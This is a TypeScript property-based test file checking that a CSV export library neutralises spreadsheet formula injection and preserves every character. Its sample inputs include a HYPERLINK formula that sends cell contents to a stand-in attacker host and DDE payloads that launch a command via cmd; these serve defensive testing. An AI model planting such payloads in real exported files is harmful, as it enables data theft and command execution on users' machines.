import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { csvRecords, csvRow } from "./index";

const hostileStart = fc.constantFrom("=", "+", "-", "@", "\t", "\r", "\uFF1D", "\uFF0B");
const hostileCell = fc.oneof(
  fc.tuple(hostileStart, fc.string({ unit: "binary" })).map(([start, rest]) => start + rest),
  fc.string({ unit: "binary" }),
  fc.constantFrom(
    '=HYPERLINK("http://evil.example?x="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    '@SUM(1+1)*cmd|" /C calc"!A0',
    "-2+3+cmd|' /C calc'!A0",
    '+"a",=1+1',
    "a,\r\n=1+1",
    '"=1+1"',
  ),
);

/** How a spreadsheet decides that a cell is a formula: its value, unquoted, starts with one of these. */
const readAsFormula = (value: string) => /^[=+\-@\t\r\uFF1D\uFF0B]/.test(value);

/** Reads CSV back as RFC 4180 defines it (csv-parse), to check that every cell survives the trip. */
const readBack = (text: string): string[][] =>
  parse(text, { record_delimiter: "\r\n", relax_column_count: true });

describe("CSV records", () => {
  for (const quoteEveryCell of [true, false]) {
    it(`never lets a spreadsheet read a cell as a formula and keeps every character (quote every cell: ${quoteEveryCell})`, () => {
      fc.assert(
        fc.property(
          fc.array(fc.array(hostileCell, { minLength: 1, maxLength: 5 }), { minLength: 1, maxLength: 3 }),
          (rows) => {
            const parsed = readBack(csvRecords(rows, { quoteEveryCell }));
            expect(parsed).toHaveLength(rows.length);
            parsed.forEach((record, row) => {
              expect(record).toHaveLength(rows[row]?.length ?? 0);
              record.forEach((value, index) => {
                const original = rows[row]?.[index] ?? "";
                expect(readAsFormula(value)).toBe(false);
                expect(value).toBe(readAsFormula(original) ? `'${original}` : original);
              });
            });
          },
        ),
        { numRuns: 200 },
      );
    });
  }

  it("quotes every cell when asked, doubling quotes, and ends each record with CRLF", () => {
    const quoted = { quoteEveryCell: true };
    expect(csvRow(["ada@operator.example"], quoted)).toBe('"ada@operator.example"\r\n');
    expect(csvRow(['say "hi"'], quoted)).toBe('"say ""hi"""\r\n');
    expect(csvRow(["=1+1", "\tx", ""], quoted)).toBe(`"'=1+1","'\tx",""\r\n`);
    expect(csvRow(["a", "b"], quoted)).toBe('"a","b"\r\n');
  });

  it("quotes only what needs it otherwise; numbers are written as they are, negative ones included", () => {
    expect(csvRow(["a", "b,c", 'd"e', null, undefined, 96.5, -2])).toBe('a,"b,c","d""e",,,96.5,-2\r\n');
    expect(csvRow(["-2"])).toBe("'-2\r\n");
    expect(
      csvRecords([
        ["h1", "h2"],
        ["1", "2"],
      ]),
    ).toBe("h1,h2\r\n1,2\r\n");
  });
});
